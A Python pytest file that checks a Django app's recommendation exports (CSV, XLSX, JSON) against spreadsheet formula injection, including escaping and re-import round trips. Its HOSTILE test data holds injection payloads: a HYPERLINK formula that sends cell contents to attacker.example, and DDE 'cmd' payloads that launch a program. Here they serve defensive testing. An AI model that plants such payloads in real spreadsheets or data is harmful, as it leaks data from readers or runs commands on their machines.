"""Formula injection: exports are public, and no text may run as a formula in the reader's spreadsheet."""

import csv
import io
import json
import re
import zipfile

import openpyxl
import pytest
from django.test import Client

from apps.recommendations.exports.writers import escape_csv_cell, unescape_csv_cell
from apps.recommendations.importers import ImportSource, recommendation_import
from apps.recommendations.models import Recommendation
from apps.reviews.models import Review
from apps.states.models import MemberState
from tests.factories import RecommendationFactory

API = "/api/v1/recommendations/"
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 urge the State to act",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2 after a tab",
    "'=a text that already starts with an apostrophe",
    "''+two apostrophes already",
]


@pytest.fixture
def hostile_review(reference_data: None) -> Review:
    """A review of China whose recommendations' texts start like formulas (as anyone's upload could)."""
    review = Review.objects.get(state_under_review__iso3="CHN", session__number=31)
    Recommendation.objects.filter(review=review).delete()
    kor = MemberState.objects.get(iso3="KOR")
    for number, text in enumerate(HOSTILE, start=1):
        RecommendationFactory(review=review, paragraph=f"28.{number}", text=text, recommending_states=[kor])
    return review


def _body(response) -> bytes:  # type: ignore[no-untyped-def]
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def _export(client: Client, fmt: str) -> bytes:
    return _body(client.get(API, {"state_under_review": "CHN", "session": 31, "format": fmt}))


def test_a_csv_cell_that_looks_like_a_formula_starts_with_an_apostrophe(client: Client, hostile_review: Review) -> None:
    rows = list(csv.DictReader(io.StringIO(_export(client, "csv").decode("utf-8-sig"), newline="")))

    texts = sorted(row["text"] for row in rows)
    assert texts == sorted("'" + text for text in HOSTILE)
    assert all(not re.match(r"[=+\-@\t\r]", row["text"]) for row in rows)


def test_an_xlsx_export_holds_no_formula_and_every_text_exactly(
    client: Client, hostile_review: Review, tmp_path
) -> None:  # type: ignore[no-untyped-def]
    data = _export(client, "xlsx")

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        xml = b"".join(archive.read(name) for name in sheets)
    assert b"<f>" not in xml and b"<f " not in xml
    path = tmp_path / "export.xlsx"
    path.write_bytes(data)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    texts = sorted(str(row[header.index("Recommendation")]) for row in sheet.iter_rows(min_row=2, values_only=True))
    assert texts == sorted(HOSTILE)


def test_the_json_export_holds_every_text_exactly(client: Client, hostile_review: Review) -> None:
    rows = json.loads(_export(client, "json"))

    assert sorted(row["text"] for row in rows) == sorted(HOSTILE)


def test_a_csv_export_with_escaped_cells_reimports_unchanged(client: Client, hostile_review: Review) -> None:
    before = {rec.paragraph: rec.text for rec in Recommendation.objects.filter(review=hostile_review)}

    report = recommendation_import(sources=[ImportSource("export.csv", _export(client, "csv"))])

    assert report.counts == {"created": 0, "updated": 0, "unchanged": len(HOSTILE), "rejected": 0}
    assert {rec.paragraph: rec.text for rec in Recommendation.objects.filter(review=hostile_review)} == before


def test_a_csv_export_recreates_the_texts_exactly_in_an_empty_review(client: Client, hostile_review: Review) -> None:
    data = _export(client, "csv")
    Recommendation.objects.filter(review=hostile_review).delete()

    report = recommendation_import(sources=[ImportSource("export.csv", data)])

    assert report.counts["created"] == len(HOSTILE)
    stored = sorted(Recommendation.objects.filter(review=hostile_review).values_list("text", flat=True))
    # The importer strips surrounding spaces (the tab), as for any file; nothing else changes.
    assert stored == sorted(text.strip() for text in HOSTILE)


@pytest.mark.parametrize(
    "text",
    ["=1+2", "+", "-", "@x", "\tx", "\rx", "'=x", "''@x", "'", "'plain", "plain", "", "a=b", "don't"],
)
def test_unescaping_an_escaped_cell_gives_the_text_back(text: str) -> None:
    assert unescape_csv_cell(escape_csv_cell(text)) == text


def test_only_formula_like_texts_are_escaped() -> None:
    assert escape_csv_cell("Ratify the 1951 Convention") == "Ratify the 1951 Convention"
    assert escape_csv_cell("'quoted' word") == "'quoted' word"
    assert escape_csv_cell("=SUM(A1)") == "'=SUM(A1)"
